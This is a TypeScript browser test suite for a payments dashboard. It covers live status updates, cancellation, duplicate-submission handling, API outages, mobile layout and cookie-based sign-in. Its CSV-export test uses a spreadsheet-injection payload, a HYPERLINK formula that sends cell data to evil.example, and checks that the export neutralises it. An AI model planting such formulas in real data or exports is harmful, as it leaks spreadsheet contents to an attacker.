import type { Browser, Page } from 'playwright-core';
import { launchChromium, SCREENSHOTS } from '../browser.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { createMerchant } from '../../api/merchants.js';
import { payments } from '../../db/schema.js';
import type { Listening } from '../../runtime/listen.js';
import { ensureDashboardBuilt, startDashboard } from '../../web/serve.js';
import { startTestSystem, type TestSystem } from '../harness.js';
import { startToxiproxy, type Proxy, type ToxiproxyServer } from '../toxiproxy.js';

let system: TestSystem;
let web: Listening;
let browser: Browser;
let page: Page;
let toxiproxy: ToxiproxyServer;
let apiLink: Proxy;

beforeAll(async () => {
  await ensureDashboardBuilt();
  system = await startTestSystem();
  // The dashboard's server side reaches the API through a proxy the tests can cut, as a restart or
  // rolling deploy of the API would.
  const api = new URL(system.apiUrl);
  toxiproxy = await startToxiproxy();
  apiLink = await toxiproxy.proxy('dashboard-api', api.host);
  web = await startDashboard({ port: 0, host: '127.0.0.1', env: { API_URL: `http://${apiLink.address}` } });
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1100, height: 800 } });
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await web?.close();
  await system?.stop();
  await toxiproxy?.stop();
});

const badge = () => page.getByTestId('status').first();

describe('dashboard in headless Chromium', () => {
  it('creates a payment through the form and watches it go pending → completed without reloading', async () => {
    await page.goto(`${web.url}/payments/new`);
    // The JSON editor refuses invalid data before anything is sent.
    await page.getByLabel('Data (JSON)').fill('{"order": ');
    await expect.poll(() => page.locator('#data-error').textContent()).toMatch(/Invalid JSON/);
    expect(await page.getByRole('button', { name: 'Create payment' }).isDisabled()).toBe(true);
    await page.getByLabel('Data (JSON)').fill('{"order": "browser-1"}');
    await page.getByLabel('Amount').fill('12.34');
    await page.getByLabel('Currency').fill('EUR');
    await page.getByLabel('Delay (seconds)').fill('3');
    await page.getByLabel('Description').fill('Browser test');
    await page.getByRole('button', { name: 'Create payment' }).click();

    await page.waitForURL(/\/payments\/pay_/);
    const detailUrl = page.url();
    expect(await badge().textContent()).toBe('Pending');
    expect(await page.getByTestId('countdown').textContent()).toMatch(/^\d+ s$/);
    expect(await page.locator('main').textContent()).toContain('€12.34');
    // No navigation from here on: the live stream updates the page.
    await page.evaluate(() => ((window as unknown as { marker: number }).marker = 42));
    await expect.poll(() => badge().textContent(), { timeout: 30_000 }).toBe('Completed');
    expect(page.url()).toBe(detailUrl);
    expect(await page.evaluate(() => (window as unknown as { marker?: number }).marker)).toBe(42);
    expect(await page.locator('.timeline li').allTextContents()).toEqual([
      expect.stringContaining('payment.created'),
      expect.stringContaining('payment.processing'),
      expect.stringContaining('payment.completed'),
    ]);
    await page.screenshot({ path: `${SCREENSHOTS}/detail.png`, fullPage: true });
  });

  it('lists payments with live status, and cancels another during its delay from its detail page', async () => {
    const pending = await system.trpc.payments.create.mutate({
      amount: 5000,
      currency: 'USD',
      delaySeconds: 120,
      description: 'to cancel',
    });
    await page.goto(`${web.url}/payments`);
    const row = page.locator(`tr[data-payment-id="${pending.id}"]`);
    expect(await row.getByTestId('status').textContent()).toBe('Pending');
    expect(await row.textContent()).toContain('$50.00');
    await page.screenshot({ path: `${SCREENSHOTS}/list.png`, fullPage: true });

    await row.getByRole('link').click();
    await page.waitForURL(`**/payments/${pending.id}`);
    await page.getByRole('button', { name: 'Cancel payment' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel payment' }).click();
    await expect.poll(() => badge().textContent(), { timeout: 15_000 }).toBe('Canceled');
    expect((await system.trpc.payments.get.query({ id: pending.id })).status).toBe('canceled');
  });

  it('opens a payment from the list while live changes keep arriving (an invalidation must not swallow the click)', async ({
    signal,
    onTestFinished,
  }) => {
    // A timed-out test's function keeps running: everything below stops on `stopped` (the test's own
    // signal, or its end however it ends), and the test is over only once both loops have returned,
    // so nothing of it still drives the shared page or writes payments during the next test.
    const done = new AbortController();
    const stopped = AbortSignal.any([signal, done.signal]);
    // Three writers, each bounded: they stop with the test, or after 150 payments each at the most.
    const churn = Promise.all(
      [0, 1, 2].map(async () => {
        for (let i = 0; !stopped.aborted && i < 150; i++) {
          await system.trpc.payments.create
            .mutate({ amount: 1, currency: 'EUR', delaySeconds: 600, description: 'churn' }, { signal: stopped })
            .catch((err: unknown) => {
              if (!stopped.aborted) throw err;
            });
          await new Promise((r) => setTimeout(r, 30));
        }
      }),
    );
    const rounds = (async () => {
      for (let round = 0; round < 12 && !stopped.aborted; round++) {
        // Created each round so it stays on the first page, however many the churn adds.
        const target = await system.trpc.payments.create.mutate(
          { amount: 700, currency: 'EUR', delaySeconds: 600, description: 'open me' },
          { signal: stopped },
        );
        await page.goto(`${web.url}/payments`);
        await page.getByTestId('live-state').filter({ hasText: 'live' }).waitFor({ timeout: 10_000 });
        await page.locator(`tr[data-payment-id="${target.id}"]`).getByRole('link').click({ timeout: 10_000 });
        await page.waitForURL(`**/payments/${target.id}`, { timeout: 10_000 });
      }
    })();
    onTestFinished(async () => {
      done.abort();
      await Promise.allSettled([churn, rounds]);
    });
    await Promise.all([rounds, churn]);
  });

  it('a double click, or the same form sent twice, creates one payment', async () => {
    await page.goto(`${web.url}/payments/new`);
    const clicked = `double-click-${Date.now()}`;
    await page.getByLabel('Description').fill(clicked);
    await page.getByLabel('Delay (seconds)').fill('600');
    await page.getByRole('button', { name: 'Create payment' }).dblclick();
    await page.waitForURL(/\/payments\/pay_/);
    // Without JavaScript (or with a retrying proxy) the form arrives twice, with the key it was served with.
    const html = await (await fetch(`${web.url}/payments/new`)).text();
    const formKey = /name="formKey" value="([0-9a-f-]{36})"/.exec(html)?.[1];
    expect(formKey).toBeDefined();
    const resent = `resent-${Date.now()}`;
    const post = () =>
      fetch(`${web.url}/payments/new`, {
        method: 'POST',
        redirect: 'manual',
        headers: { origin: web.url, accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({
          formKey: formKey!,
          amount: '3.00',
          currency: 'EUR',
          delaySeconds: '600',
          description: resent,
          data: '{}',
        }),
      });
    const answers = await Promise.all([post(), post()]);
    expect(answers.map((r) => r.status)).toEqual([303, 303]);
    expect(answers[0]!.headers.get('location')).toBe(answers[1]!.headers.get('location'));
    const rows = async (description: string) =>
      (await system.database.db.select({ id: payments.id }).from(payments).where(eq(payments.description, description))).length;
    expect(await rows(clicked)).toBe(1);
    expect(await rows(resent)).toBe(1);
    // Negative control: the same form without its key is two payments, so the count above can fail.
    const keyless = `keyless-${Date.now()}`;
    const send = () =>
      fetch(`${web.url}/payments/new`, {
        method: 'POST',
        redirect: 'manual',
        headers: { origin: web.url, accept: 'text/html', 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ amount: '3.00', currency: 'EUR', delaySeconds: '600', description: keyless, data: '{}' }),
      });
    await Promise.all([send(), send()]);
    expect(await rows(keyless)).toBe(2);
  });

  it('an API that goes away shows a clear 503 and the open page comes back by itself when it returns', async () => {
    await page.goto(`${web.url}/payments`);
    await apiLink.disable();
    try {
      await page.reload();
      expect(await page.locator('h1').first().textContent()).toBe('503');
      expect(await page.getByRole('alert').textContent()).toMatch(/unreachable; this page retries by itself/);
      expect(await page.getByTestId('retrying').isVisible()).toBe(true);
    } finally {
      await apiLink.enable();
    }
    // No reload from the test: the page retries until the API answers again.
    await expect.poll(() => page.locator('h1').first().textContent(), { timeout: 30_000, interval: 500 }).toMatch(/^Payments/);
  });

  it('an open page keeps its data under a banner while the API is away for 10 s, and refreshes by itself when it returns', async () => {
    await page.goto(`${web.url}/payments`);
    const rows = page.locator('[data-payment-id]');
    await expect.poll(() => rows.count(), { timeout: 15_000 }).toBeGreaterThan(0);
    const shown = await rows.count();
    await apiLink.disable();
    try {
      await expect.poll(() => page.getByTestId('api-banner').isVisible(), { timeout: 20_000, interval: 250 }).toBe(true);
      // The outage lasts 10 s: every refresh round meanwhile must leave the page as it is.
      for (const end = Date.now() + 10_000; Date.now() < end; await page.waitForTimeout(500)) {
        expect(await page.locator('h1').first().textContent()).toMatch(/^Payments/);
        expect(await rows.count()).toBe(shown);
      }
    } finally {
      await apiLink.enable();
    }
    const created = await system.trpc.payments.create.mutate({ amount: 777, currency: 'EUR', delaySeconds: 3600 });
    // No reload from the test: the banner goes and the page shows what happened meanwhile.
    await expect.poll(() => page.getByTestId('api-banner').isVisible(), { timeout: 30_000, interval: 250 }).toBe(false);
    await expect.poll(() => page.locator(`[data-payment-id="${created.id}"]`).count(), { timeout: 30_000, interval: 250 }).toBe(1);
  });

  it("a payment's detail page shows what it is and does not scroll sideways at 375 px", async () => {
    const long = 'x'.repeat(300);
    const p = await system.trpc.payments.create.mutate({
      amount: 4200,
      currency: 'EUR',
      delaySeconds: 0,
      description: `mobile ${long}`,
      metadata: { orderId: 'A-17' },
      data: { note: long, simulate: 'decline' },
    });
    await system.temporal.workflow.getHandle(p.id).result();
    const phone = await browser.newPage({ viewport: { width: 375, height: 740 } });
    try {
      await phone.goto(`${web.url}/payments/${p.id}`);
      const details = await phone.getByTestId('details').textContent();
      expect(details).toContain('metadata.orderId');
      expect(details).toContain('A-17');
      expect(details).toContain(`mobile ${long}`);
      expect(await phone.getByTestId('payment-id').textContent()).toBe(p.id);
      const overflow = await phone.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      await phone.screenshot({ path: `${SCREENSHOTS}/detail-375.png`, fullPage: true });
      expect(overflow).toBeLessThanOrEqual(0);
    } finally {
      await phone.close();
    }
  });

  it('exports CSV with formulas neutralised', async () => {
    const description = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await system.trpc.payments.create.mutate({ amount: 100, currency: 'EUR', delaySeconds: 600, description });
    const csv = await (await fetch(`${web.url}/payments.csv`)).text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // In the list's order: sorted by amount, ascending, across every page of the export (created out
    // of that order, so newest-first would not pass).
    for (const amount of [300, 100, 200]) await system.trpc.payments.create.mutate({ amount, currency: 'EUR', delaySeconds: 3600 });
    const sorted = (await (await fetch(`${web.url}/payments.csv?sort=amount&dir=asc`)).text()).trim().split('\r\n').slice(1);
    const amounts = sorted.map((line) => Number(line.split(',')[3]));
    expect(amounts.length).toBeGreaterThan(1);
    expect(amounts).toEqual([...amounts].sort((a, b) => a - b));
    expect(new Set(amounts).size).toBeGreaterThan(1);
  });

  it('shows the overview with counts, the chart and what needs attention', async () => {
    await page.goto(`${web.url}/`);
    expect(Number(await page.getByTestId('count-completed').textContent())).toBeGreaterThanOrEqual(1);
    expect(await page.locator('svg rect').count()).toBe(60);
    await page.screenshot({ path: `${SCREENSHOTS}/overview.png`, fullPage: true });
  });

  it('signs in with an API key kept in an httpOnly cookie that page scripts cannot read', async () => {
    const merchant = await createMerchant(system.database.db, 'Browser merchant');
    const context = await browser.newContext();
    const signedIn = await context.newPage();
    await signedIn.goto(`${web.url}/login`);
    await signedIn.getByLabel('API key').fill('sk_wrong');
    await signedIn.getByRole('button', { name: 'Sign in' }).click();
    await expect.poll(() => signedIn.getByRole('alert').textContent()).toMatch(/unknown or revoked/);
    await signedIn.getByLabel('API key').fill(merchant.apiKey.key);
    await signedIn.getByRole('button', { name: 'Sign in' }).click();
    await signedIn.waitForURL(`${web.url}/`);
    // A new merchant has no payments: the dashboard acts for it, not the demo merchant.
    expect(await signedIn.getByTestId('count-completed').textContent()).toBe('0');
    expect(await signedIn.evaluate(() => document.cookie)).not.toContain(merchant.apiKey.key);
    const cookies = await context.cookies();
    expect(cookies.find((c) => c.name === 'payments_api_key')).toMatchObject({ httpOnly: true, sameSite: 'Strict' });
    await context.close();
  });
});
